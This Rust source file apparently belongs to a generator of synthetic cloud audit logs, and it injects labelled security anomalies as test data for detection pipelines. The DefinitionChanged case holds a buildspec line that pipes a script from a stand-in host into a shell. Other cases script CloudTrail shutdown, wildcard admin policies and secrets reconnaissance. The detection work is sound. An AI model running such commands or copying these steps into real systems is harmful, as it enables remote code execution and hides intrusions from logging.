//! Labelled anomalies: one of each kind, injected in the last third of the history so that every
//! pipeline has a baseline before it, each written to `labels.jsonl` with the event and run ids
//! that show it.

use serde_json::{Value, json};

use super::org::{Env, Pipeline};
use super::trail::{Call, Session, Who, assume_response, iso, record, session_key};
use super::{Day, Label, RunTweak, simulate_run};

/// The kinds of anomaly the generator injects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Anomaly {
    /// A principal never seen for the pipeline assumes its deploy role.
    UnknownPrincipal,
    /// A deploy at an hour the pipeline never runs.
    OffHoursDeploy,
    /// Activity in a region the pipeline never uses.
    NewRegion,
    /// A long-term access key where the pipeline always used temporary credentials.
    LongTermKey,
    /// A dev pipeline touching the prod account.
    DevTouchesProd,
    /// A developer editing a pipeline or build definition.
    DefinitionChanged,
    /// An admin or wildcard policy attached to a pipeline role.
    PipelineRoleBroadened,
    /// CloudTrail logging stopped or event selectors narrowed.
    TrailTampering,
    /// A burst of AccessDenied (reconnaissance).
    AccessDeniedBurst,
    /// A call-volume spike.
    VolumeSpike,
    /// Root use and console login without MFA.
    RootNoMfa,
    /// Pipeline role credentials used from a network outside the CI runners'.
    ForeignNetwork,
    /// A build triggered by an unusual actor with checks skipped.
    UnusualTrigger,
    /// A deploy while a required check was skipped ([`super::bypasses`]).
    ChecksBypassed,
    /// A CodeBuild build started by hand with its buildspec overridden.
    BuildOverride,
    /// A CodePipeline approval given by the one who started the execution.
    SelfApproval,
    /// The scan and approval actions removed from a pipeline definition.
    ChecksRemoved,
    /// The inbound transition of a pipeline's approval stage disabled.
    TransitionDisabled,
    /// A deploy role's OIDC trust opened to every repository of the organisation.
    TrustBroadened,
    /// A `pull_request_target` run of a fork's code that got cloud credentials.
    ForkTargetRun,
    /// A push past a branch protection (GitHub audit log).
    ProtectionOverridden,
    /// A repository ruleset's enforcement disabled (GitHub audit log).
    RulesetDisabled,
    /// An environment's protection rule removed (GitHub audit log).
    EnvironmentUnprotected,
    /// A workflow run deleted (GitHub audit log).
    RunDeleted,
    /// A merge request approval rule deleted (GitLab audit event).
    ApprovalRuleDeleted,
    /// A pipeline's deploy role used at night while no run of it was active ([`super::state`]).
    OutsideRun,
    /// A pipeline's build records stop for the last days while its deploys go on.
    RecordsStopped,
}

impl Anomaly {
    /// All kinds, in injection order.
    pub const ALL: [Anomaly; 13] = [
        Anomaly::UnknownPrincipal,
        Anomaly::OffHoursDeploy,
        Anomaly::NewRegion,
        Anomaly::LongTermKey,
        Anomaly::DevTouchesProd,
        Anomaly::DefinitionChanged,
        Anomaly::PipelineRoleBroadened,
        Anomaly::TrailTampering,
        Anomaly::AccessDeniedBurst,
        Anomaly::VolumeSpike,
        Anomaly::RootNoMfa,
        Anomaly::ForeignNetwork,
        Anomaly::UnusualTrigger,
    ];

    /// SEC11-BP07 bypasses and untrusted input, scheduled after [`Anomaly::ALL`] so that adding
    /// them moved none of the earlier labels.
    pub const BYPASSES: [Anomaly; 12] = [
        Anomaly::ChecksBypassed,
        Anomaly::BuildOverride,
        Anomaly::SelfApproval,
        Anomaly::ChecksRemoved,
        Anomaly::TransitionDisabled,
        Anomaly::TrustBroadened,
        Anomaly::ForkTargetRun,
        Anomaly::ProtectionOverridden,
        Anomaly::RulesetDisabled,
        Anomaly::EnvironmentUnprotected,
        Anomaly::RunDeleted,
        Anomaly::ApprovalRuleDeleted,
    ];

    /// Pipeline state (SEC11-BP07, "emit state"): scheduled after [`Anomaly::BYPASSES`];
    /// [`Anomaly::RecordsStopped`] starts three days before the end and lasts to it.
    pub const STATE: [Anomaly; 2] = [Anomaly::OutsideRun, Anomaly::RecordsStopped];

    /// Whether the anomaly goes on from its day to the end of the history (one label, its events
    /// gathered from every day).
    pub fn lasts(self) -> bool {
        self == Anomaly::RecordsStopped
    }

    /// The label spelling.
    pub fn as_str(self) -> &'static str {
        match self {
            Anomaly::UnknownPrincipal => "unknown_principal",
            Anomaly::OffHoursDeploy => "off_hours_deploy",
            Anomaly::NewRegion => "new_region",
            Anomaly::LongTermKey => "long_term_key",
            Anomaly::DevTouchesProd => "dev_touches_prod",
            Anomaly::DefinitionChanged => "pipeline_definition_changed",
            Anomaly::PipelineRoleBroadened => "pipeline_role_broadened",
            Anomaly::TrailTampering => "cloudtrail_tampering",
            Anomaly::AccessDeniedBurst => "access_denied_burst",
            Anomaly::VolumeSpike => "volume_spike",
            Anomaly::RootNoMfa => "root_console_login_without_mfa",
            Anomaly::ForeignNetwork => "foreign_network",
            Anomaly::UnusualTrigger => "unusual_build_trigger",
            Anomaly::ChecksBypassed => "checks_bypassed",
            Anomaly::BuildOverride => "codebuild_build_override",
            Anomaly::SelfApproval => "self_approval",
            Anomaly::ChecksRemoved => "pipeline_checks_removed",
            Anomaly::TransitionDisabled => "stage_transition_disabled",
            Anomaly::TrustBroadened => "oidc_trust_too_broad",
            Anomaly::ForkTargetRun => "untrusted_trigger_credentials",
            Anomaly::ProtectionOverridden => "branch_protection_bypassed",
            Anomaly::RulesetDisabled => "ruleset_weakened",
            Anomaly::EnvironmentUnprotected => "environment_protection_removed",
            Anomaly::RunDeleted => "workflow_run_deleted",
            Anomaly::ApprovalRuleDeleted => "approval_rules_weakened",
            Anomaly::OutsideRun => "activity_outside_runs",
            Anomaly::RecordsStopped => "pipeline_silent",
        }
    }
}

/// On which day (0-based) each anomaly happens: each list spread over the last third.
pub fn schedule(days: u32) -> Vec<(Anomaly, u32)> {
    let first = days - days / 3;
    let span = (days - first).max(1);
    let spread = |list: &[Anomaly]| {
        let n = list.len() as u32;
        list.iter()
            .enumerate()
            .map(|(i, a)| (*a, (first + (i as u32 * span) / n).min(days - 1)))
            .collect::<Vec<_>>()
    };
    let mut out = spread(&Anomaly::ALL);
    out.extend(spread(&Anomaly::BYPASSES));
    out.push((Anomaly::OutsideRun, (first + span / 2).min(days - 1)));
    out.push((Anomaly::RecordsStopped, days.saturating_sub(3).max(first)));
    out
}

pub(super) fn find<'a>(ps: &'a [Pipeline], id: &str) -> &'a Pipeline {
    ps.iter()
        .find(|p| p.id == id)
        .expect("pipeline in the organisation")
}

/// Injects one anomaly into the day; returns its label.
pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label {
    let web = find(ps, "github:acme/web:deploy.yml");
    let api = find(ps, "github:acme/api:deploy.yml");
    let mobile = find(ps, "github:acme/mobile-backend:release.yml");
    let infra = find(ps, "github:acme/infra:terraform.yml");
    let etl = find(ps, "codebuild:111111111111:eu-west-1:data-etl-build");
    let midnight = day.midnight;
    let at = |h: i64, m: i64| midnight + h * 3600 + m * 60;
    let mut label = Label {
        id: format!("L{n:02}"),
        kind: kind.as_str(),
        pipeline: String::new(),
        time: String::new(),
        env: String::new(),
        event_ids: vec![],
        run_ids: vec![],
        description: String::new(),
    };
    let tooling = Env::Tooling.account().to_string();
    let prod = Env::Prod.account().to_string();
    if Anomaly::STATE.contains(&kind) {
        super::state::inject(day, kind, ps, &mut label);
        return label;
    }
    if Anomaly::BYPASSES.contains(&kind) {
        super::bypasses::inject(day, kind, ps, &mut label);
        return label;
    }
    match kind {
        Anomaly::UnknownPrincipal => {
            let t = at(13, 5);
            let who = Who::IamUser {
                account: Env::Dev.account().into(),
                user: "contractor-tmp".into(),
                key: "AKIACONTRACTOR000042".into(),
            };
            let s = Session::new(&mut day.rng, &prod, web.role, "contractor".into(), t);
            let resp = assume_response(&mut day.rng, &s, json!({}));
            let ip = "45.83.64.12";
            let ua = "aws-cli/2.15.1 Python/3.11.6 Darwin/23.1.0 exe/x86_64";
            let ev = record(
                &mut day.rng,
                Call {
                    time: t,
                    who: &who,
                    source: "sts.amazonaws.com",
                    name: "AssumeRole",
                    region: "us-east-1",
                    account: &prod,
                    ip,
                    ua,
                    request: json!({"roleArn": format!("arn:aws:iam::{prod}:role/{}", web.role), "roleSessionName": "contractor"}),
                    response: resp,
                    read_only: true,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            let who = Who::Role(s);
            for (k, name) in ["ListBucket", "GetObject", "PutObject"].iter().enumerate() {
                let req = super::trail::request_for(
                    &mut day.rng,
                    "s3.amazonaws.com",
                    name,
                    &prod,
                    "us-east-1",
                    "web",
                );
                let ev = record(
                    &mut day.rng,
                    Call {
                        time: t + 30 + k as i64 * 20,
                        who: &who,
                        source: "s3.amazonaws.com",
                        name,
                        region: "us-east-1",
                        account: &prod,
                        ip,
                        ua,
                        request: req,
                        response: Value::Null,
                        read_only: *name != "PutObject",
                        error: None,
                    },
                );
                label.event_ids.push(ev.id.clone());
                day.events.push(ev);
            }
            label.pipeline = web.id.into();
            label.env = "prod".into();
            label.time = iso(t);
            label.description = "IAM user contractor-tmp from the dev account assumed the web deploy role in prod and wrote to its bucket".into();
        }
        Anomaly::OffHoursDeploy => {
            let (run, _, ids) = simulate_run(
                day,
                api,
                at(3, 17),
                &RunTweak {
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            fill(
                &mut label,
                api,
                &run,
                ids,
                "prod",
                "deploy of acme/api to prod at 03:17 UTC, hours the pipeline never runs",
            );
        }
        Anomaly::NewRegion => {
            let (run, _, ids) = simulate_run(
                day,
                web,
                at(14, 40),
                &RunTweak {
                    region: Some("ap-southeast-1"),
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            fill(
                &mut label,
                web,
                &run,
                ids,
                "prod",
                "acme/web deployed in ap-southeast-1, a region it never used",
            );
        }
        Anomaly::LongTermKey => {
            let (run, _, ids) = simulate_run(
                day,
                web,
                at(11, 20),
                &RunTweak {
                    long_term: Some(("deploy-web-ci".into(), "AKIADEPLOYWEBCI00007".into())),
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            fill(
                &mut label,
                web,
                &run,
                ids,
                "prod",
                "acme/web deployed with the long-term key of IAM user deploy-web-ci instead of its OIDC role",
            );
        }
        Anomaly::DevTouchesProd => {
            let (run, _, ids) = simulate_run(
                day,
                mobile,
                at(15, 2),
                &RunTweak {
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            fill(
                &mut label,
                mobile,
                &run,
                ids,
                "prod",
                "the dev-only mobile-backend release pipeline assumed its role in the prod account and updated functions there",
            );
        }
        Anomaly::DefinitionChanged => {
            let t = at(16, 45);
            let (who, ip, ua) = human(
                day,
                "bob",
                &tooling,
                "AWSReservedSSO_Developer_0a1b2c3d4e5f6789",
                t,
            );
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 60,
                    who: &who,
                    source: "codebuild.amazonaws.com",
                    name: "UpdateProject",
                    region: "us-east-1",
                    account: &tooling,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"name": "payments-build", "source": {"type": "CODEPIPELINE", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n"},
                    "serviceRole": format!("arn:aws:iam::{tooling}:role/bob-admin-role")}),
                    // UpdateProject answers with the whole project as it now is.
                    response: json!({"project": super::bypasses::payments_build(
                        "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n",
                        "bob-admin-role",
                    )}),
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 240,
                    who: &who,
                    source: "codepipeline.amazonaws.com",
                    name: "UpdatePipeline",
                    region: "us-east-1",
                    account: &tooling,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"pipeline": super::bypasses::payments_release(5, false)}),
                    response: json!({"pipeline": super::bypasses::payments_release(5, false)}),
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            label.pipeline = "codepipeline:111111111111:us-east-1:payments-release".into();
            label.env = "tooling".into();
            label.time = iso(t + 60);
            label.description = "developer bob changed the payments-build buildspec and service role, and removed the Approval stage of payments-release".into();
        }
        Anomaly::PipelineRoleBroadened => {
            let t = at(10, 12);
            let (who, ip, ua) = human(
                day,
                "dave",
                &tooling,
                "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789",
                t,
            );
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 30,
                    who: &who,
                    source: "iam.amazonaws.com",
                    name: "AttachRolePolicy",
                    region: "us-east-1",
                    account: &tooling,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"roleName": "codebuild-payments-build", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
                    response: Value::Null,
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 90,
                    who: &who,
                    source: "iam.amazonaws.com",
                    name: "PutRolePolicy",
                    region: "us-east-1",
                    account: &tooling,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"roleName": "codebuild-payments-build", "policyName": "temp-fix", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}),
                    response: Value::Null,
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            label.pipeline = "codebuild:111111111111:us-east-1:payments-build".into();
            label.env = "tooling".into();
            label.time = iso(t + 30);
            label.description = "AdministratorAccess attached and a * inline policy put on the payments-build service role".into();
        }
        Anomaly::TrailTampering => {
            let t = at(21, 33);
            let (who, ip, ua) = human(
                day,
                "dave",
                &prod,
                "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789",
                t,
            );
            let trail = format!("arn:aws:cloudtrail:us-east-1:{prod}:trail/org-trail");
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 20,
                    who: &who,
                    source: "cloudtrail.amazonaws.com",
                    name: "PutEventSelectors",
                    region: "us-east-1",
                    account: &prod,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"trailName": trail, "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": false, "dataResources": [], "excludeManagementEventSources": []}]}),
                    response: json!({"trailARN": trail}),
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 80,
                    who: &who,
                    source: "cloudtrail.amazonaws.com",
                    name: "StopLogging",
                    region: "us-east-1",
                    account: &prod,
                    ip: &ip,
                    ua: &ua,
                    request: json!({"name": trail}),
                    response: Value::Null,
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            label.pipeline = "".into();
            label.env = "prod".into();
            label.time = iso(t + 20);
            label.description =
                "event selectors of the trail narrowed to read-only, then logging stopped, in prod"
                    .into();
        }
        Anomaly::AccessDeniedBurst => {
            let t = at(2, 40);
            let (run, session, _) = simulate_run(
                day,
                infra,
                t,
                &RunTweak {
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            if let Some(s) = session {
                let who = Who::Role(s);
                let ip = "20.55.14.9";
                let probes: &[(&str, &str)] = &[
                    ("iam.amazonaws.com", "ListUsers"),
                    ("iam.amazonaws.com", "ListAccessKeys"),
                    ("secretsmanager.amazonaws.com", "ListSecrets"),
                    ("s3.amazonaws.com", "ListBuckets"),
                    ("kms.amazonaws.com", "ListKeys"),
                    ("organizations.amazonaws.com", "ListAccounts"),
                    ("ssm.amazonaws.com", "DescribeParameters"),
                ];
                for k in 0..60 {
                    let (src, name) = probes[k % probes.len()];
                    let ev = record(
                        &mut day.rng,
                        Call {
                            time: t + 600 + k as i64 * 4,
                            who: &who,
                            source: src,
                            name,
                            region: "us-east-1",
                            account: &prod,
                            ip,
                            ua: "Boto3/1.34.0 Python/3.11.4 Linux/6.5.0 Botocore/1.34.0",
                            request: Value::Null,
                            response: Value::Null,
                            read_only: true,
                            error: Some((
                                "AccessDenied".into(),
                                format!(
                                    "User is not authorized to perform: {}:{name}",
                                    src.split('.').next().unwrap_or("")
                                ),
                            )),
                        },
                    );
                    label.event_ids.push(ev.id.clone());
                    day.events.push(ev);
                }
            }
            label.run_ids.push(run.id.clone());
            label.pipeline = infra.id.into();
            label.env = "prod".into();
            label.time = iso(t + 600);
            label.description = "60 AccessDenied in 4 minutes from the terraform role session, listing users, keys, secrets and accounts".into();
        }
        Anomaly::VolumeSpike => {
            let (run, _, ids) = simulate_run(
                day,
                etl,
                at(1, 5),
                &RunTweak {
                    volume: 25.0,
                    ..Default::default()
                },
            );
            fill(
                &mut label,
                etl,
                &run,
                ids,
                "tooling",
                "data-etl-build made about 25 times its usual number of calls",
            );
        }
        Anomaly::RootNoMfa => {
            let t = at(6, 55);
            let root = Who::Root {
                account: prod.clone(),
                key: Some(String::new()),
            };
            let ip = "91.219.236.18";
            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36";
            let mut ev = record(
                &mut day.rng,
                Call {
                    time: t,
                    who: &root,
                    source: "signin.amazonaws.com",
                    name: "ConsoleLogin",
                    region: "us-east-1",
                    account: &prod,
                    ip,
                    ua,
                    request: Value::Null,
                    response: json!({"ConsoleLogin": "Success"}),
                    read_only: false,
                    error: None,
                },
            );
            ev.record["additionalEventData"] = json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"});
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            let root = Who::Root {
                account: prod.clone(),
                key: Some(session_key(&mut day.rng)),
            };
            let ev = record(
                &mut day.rng,
                Call {
                    time: t + 120,
                    who: &root,
                    source: "iam.amazonaws.com",
                    name: "CreateAccessKey",
                    region: "us-east-1",
                    account: &prod,
                    ip,
                    ua,
                    request: Value::Null,
                    response: json!({"accessKey": {"accessKeyId": "AKIAROOTNEWKEY000001", "status": "Active"}}),
                    read_only: false,
                    error: None,
                },
            );
            label.event_ids.push(ev.id.clone());
            day.events.push(ev);
            label.env = "prod".into();
            label.time = iso(t);
            label.description =
                "root signed in to the prod account without MFA and created an access key".into();
        }
        Anomaly::ForeignNetwork => {
            let (run, session, _) = simulate_run(
                day,
                api,
                at(14, 0),
                &RunTweak {
                    env: Some(Env::Prod),
                    ..Default::default()
                },
            );
            if let Some(s) = session {
                let who = Who::Role(s);
                let ip = "185.220.101.45";
                for k in 0..6 {
                    let (src, name, ro) = if k == 5 {
                        ("secretsmanager.amazonaws.com", "GetSecretValue", true)
                    } else {
                        ("s3.amazonaws.com", "GetObject", true)
                    };
                    let req = super::trail::request_for(
                        &mut day.rng,
                        src,
                        name,
                        &prod,
                        "us-east-1",
                        "api",
                    );
                    let ev = record(
                        &mut day.rng,
                        Call {
                            time: at(14, 40) + k * 15,
                            who: &who,
                            source: src,
                            name,
                            region: "us-east-1",
                            account: &prod,
                            ip,
                            ua: "python-requests/2.31.0",
                            request: req,
                            response: Value::Null,
                            read_only: ro,
                            error: None,
                        },
                    );
                    label.event_ids.push(ev.id.clone());
                    day.events.push(ev);
                }
            }
            label.run_ids.push(run.id);
            label.pipeline = api.id.into();
            label.env = "prod".into();
            label.time = iso(at(14, 40));
            label.description = "the acme/api deploy session's credentials were used from 185.220.101.45, outside GitHub's runners, to read objects and a secret".into();
        }
        Anomaly::UnusualTrigger => {
            // skip_checks did what it says: the check jobs were skipped.
            let checks = super::builds::default_checks(web)
                .into_iter()
                .map(|c| super::builds::Check {
                    conclusion: "skipped",
                    ..c
                })
                .collect();
            let tweak = RunTweak {
                trigger: Some((
                    "workflow_dispatch",
                    "mallory".into(),
                    "hotfix/tmp".into(),
                    json!({"skip_checks": "true", "reason": "urgent"}),
                )),
                env: Some(Env::Prod),
                checks: Some(checks),
                ..Default::default()
            };
            let (run, _, ids) = simulate_run(day, web, at(19, 50), &tweak);
            fill(
                &mut label,
                web,
                &run,
                ids,
                "prod",
                "acme/web deployed to prod from branch hotfix/tmp by mallory through workflow_dispatch with skip_checks=true",
            );
        }
        // Injected above by `bypasses::inject`.
        Anomaly::ChecksBypassed
        | Anomaly::BuildOverride
        | Anomaly::SelfApproval
        | Anomaly::ChecksRemoved
        | Anomaly::TransitionDisabled
        | Anomaly::TrustBroadened
        | Anomaly::ForkTargetRun
        | Anomaly::ProtectionOverridden
        | Anomaly::RulesetDisabled
        | Anomaly::EnvironmentUnprotected
        | Anomaly::RunDeleted
        | Anomaly::ApprovalRuleDeleted
        | Anomaly::OutsideRun
        | Anomaly::RecordsStopped => {}
    }
    label
}

pub(super) fn fill(
    label: &mut Label,
    p: &Pipeline,
    run: &super::builds::Run,
    ids: Vec<String>,
    env: &str,
    desc: &str,
) {
    label.pipeline = p.id.into();
    label.run_ids.push(run.id.clone());
    label.event_ids = ids;
    label.env = env.into();
    label.time = iso(run.start);
    label.description = desc.into();
}

/// A person's SSO session in an account (the AssumeRoleWithSAML call is recorded too).
pub(super) fn human(
    day: &mut Day,
    person: &str,
    account: &str,
    role: &str,
    t: i64,
) -> (Who, String, String) {
    let s = Session::new(
        &mut day.rng,
        account,
        role,
        format!("{person}@acme.example"),
        t,
    );
    let ip = format!("{}{}", super::org::OFFICE_NET, 50);
    let ua = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36".to_string();
    let saml = Who::Saml {
        provider_arn: format!(
            "arn:aws:iam::{account}:saml-provider/AWSSSO_6d1f2e3c4b5a6978_DO_NOT_DELETE"
        ),
        user: s.name.clone(),
    };
    let resp = assume_response(&mut day.rng, &s, json!({"subjectType": "persistent"}));
    let ev = record(
        &mut day.rng,
        Call {
            time: t,
            who: &saml,
            source: "sts.amazonaws.com",
            name: "AssumeRoleWithSAML",
            region: "us-east-1",
            account,
            ip: &ip,
            ua: &ua,
            request: json!({"roleArn": format!("arn:aws:iam::{account}:role/aws-reserved/sso.amazonaws.com/{role}")}),
            response: resp,
            read_only: true,
            error: None,
        },
    );
    day.events.push(ev);
    (Who::Role(s), ip, ua)
}
